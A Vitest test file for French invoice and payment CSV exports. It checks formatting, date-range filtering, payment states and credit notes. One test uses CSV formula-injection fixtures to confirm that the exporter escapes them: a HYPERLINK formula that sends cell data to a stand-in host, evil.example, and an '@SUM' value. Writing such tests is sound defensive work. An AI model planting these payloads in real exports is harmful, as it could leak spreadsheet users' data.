import type { Facture, Reglement } from '@relais/schema';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvAmount, csvDate, facturesCsv, invoiceStatuses, reglementsCsv } from './exports';

const entreprise = '00000000-0000-4000-8000-000000000001';
const client = '00000000-0000-4000-8000-0000000000c1';

function facture(id: string, date_facture: string, prix: number, fields: Partial<Facture> = {}): Facture {
  return {
    id,
    rev: 1,
    updated_at: '2026-11-01T08:00:00.000Z',
    entreprise_id: entreprise,
    contact_id: client,
    type_facture: 'facture',
    statut: 'validee',
    numero: `FA-${date_facture}`,
    date_facture,
    date_echeance: date_facture,
    conditions_paiement: { jours: 0, fin_de_mois: false },
    lignes: [{ id: `${id.slice(0, 24)}999999999999`, designation: 'Transport', quantite: 1, prix_unitaire_ht: prix, taux_tva_bp: 2000 }],
    regime_tva: 'normale',
    ...fields,
  };
}

function reglement(id: string, facture_id: string, date_reglement: string, montant: number): Reglement {
  return { id, rev: 1, updated_at: '2026-11-01T08:00:00.000Z', facture_id, date_reglement, montant, mode: 'cheque' };
}

const factures = [
  facture('00000000-0000-4000-8000-0000000000f1', '2026-10-31', 1000),
  facture('00000000-0000-4000-8000-0000000000f2', '2026-11-01', 123_456),
  facture('00000000-0000-4000-8000-0000000000f3', '2026-11-30', 1000),
  facture('00000000-0000-4000-8000-0000000000f4', '2026-12-01', 1000),
  facture('00000000-0000-4000-8000-0000000000f5', '2026-11-15', 1000, { statut: 'brouillon', numero: undefined }),
];
const reglements = [
  reglement('00000000-0000-4000-8000-0000000000b1', factures[1]?.id ?? '', '2026-11-01', 100_000),
  reglement('00000000-0000-4000-8000-0000000000b2', factures[1]?.id ?? '', '2026-12-01', 48_147),
  reglement('00000000-0000-4000-8000-0000000000b3', factures[4]?.id ?? '', '2026-11-20', 500),
];
const contacts = [{ id: client, nom: 'Durand', prenom: 'Anne' }];
const input = { factures, contacts, reglements, du: '2026-11-01', au: '2026-11-30', separator: ';' as const };

describe('CSV exports', () => {
  it('formats amounts and dates for each separator', () => {
    expect([csvAmount(123_456, ';'), csvAmount(123_456, ','), csvAmount(-5, ';'), csvAmount(0, ',')]).toEqual(['1234,56', '1234.56', '-0,05', '0.00']);
    expect([csvDate('2026-11-05', ';'), csvDate('2026-11-05', ','), csvDate(undefined, ';')]).toEqual(['05/11/2026', '2026-11-05', '']);
  });

  it('keeps both ends of the period and validated documents only', () => {
    const rows = parse(facturesCsv(input), { delimiter: ';', bom: true });
    expect(rows.slice(1).map((row) => row[0])).toEqual(['FA-2026-11-01', 'FA-2026-11-30']);
    // Paid by two cheques, the second after the period: the state counts every payment.
    expect(rows[1]?.slice(6)).toEqual(['1234,56', '246,91', '1481,47', '1481,47', '0,00', 'Payée']);
    expect(facturesCsv(input).startsWith('\ufeff')).toBe(true);
    expect(facturesCsv(input)).toContain('\r\n');
  });

  it('exports the payments of the period on validated invoices only', () => {
    const rows = parse(reglementsCsv({ ...input, separator: ',' }), { delimiter: ',', bom: true });
    expect(rows.slice(1)).toEqual([['2026-11-01', 'FA-2026-11-01', 'Anne Durand', 'Chèque', '', '1000.00']]);
  });

  it('reads payment states with credit notes deducted', () => {
    const avoir = facture('00000000-0000-4000-8000-0000000000a1', '2026-11-02', 0, {
      type_facture: 'avoir',
      facture_origine_id: factures[0]?.id,
      lignes: [{ id: '00000000-0000-4000-9000-000000000001', designation: 'Remise', quantite: -1, prix_unitaire_ht: 1000, taux_tva_bp: 2000 }],
    });
    const statuses = invoiceStatuses([...factures, avoir], []);
    expect(statuses.get(factures[0]?.id ?? '')).toMatchObject({ credited: 1200, remaining: 0, etat: 'payee' });
    expect(statuses.get(avoir.id)).toMatchObject({ etat: 'avoir', remaining: 0 });
    expect(statuses.has(factures[4]?.id ?? '')).toBe(false);
  });

  it('writes formula-like names and references as text, negative amounts as numbers, in both separators', () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const avoir = facture('00000000-0000-4000-8000-0000000000a2', '2026-11-03', 0, {
      numero: 'AV-2026-00001',
      type_facture: 'avoir',
      facture_origine_id: factures[1]?.id,
      lignes: [{ id: '00000000-0000-4000-9000-000000000002', designation: 'Remise', quantite: -1, prix_unitaire_ht: 1250, taux_tva_bp: 0 }],
    });
    const payment = { ...reglement('00000000-0000-4000-8000-0000000000b9', factures[2]?.id ?? '', '2026-11-30', 5000), reference: '@SUM(1+1)*cmd' };
    const hostileInput = { ...input, factures: [...factures, avoir], contacts: [{ id: client, nom: hostile }], reglements: [...reglements, payment] };
    for (const separator of [';', ','] as const) {
      const amount = (cents: number) => csvAmount(cents, separator);
      const invoices = parse(facturesCsv({ ...hostileInput, separator }), { delimiter: separator, bom: true });
      expect(invoices.slice(1).map((row) => row[4])).toEqual([`'${hostile}`, `'${hostile}`, `'${hostile}`]);
      const credit = invoices.find((row) => row[0] === 'AV-2026-00001')!;
      expect(credit.slice(6, 9)).toEqual([amount(-1250), amount(0), amount(-1250)]);
      expect(credit[6]).toBe(separator === ';' ? '-12,50' : '-12.50');
      // Overpaid: what is still owed is negative, written as a number.
      const overpaid = invoices.find((row) => row[0] === 'FA-2026-11-30')!;
      expect(overpaid[10]).toBe(amount(1200 - 5000));
      const payments = parse(reglementsCsv({ ...hostileInput, separator }), { delimiter: separator, bom: true });
      expect(payments.at(-1)).toEqual([csvDate('2026-11-30', separator), 'FA-2026-11-30', `'${hostile}`, 'Chèque', "'@SUM(1+1)*cmd", amount(5000)]);
      // No cell of either file starts like a formula, but the negative amounts.
      for (const row of [...invoices, ...payments]) {
        expect(row.filter((cell) => /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d+[.,]\d{2}$/.test(cell)))).toEqual([]);
      }
    }
  });
});
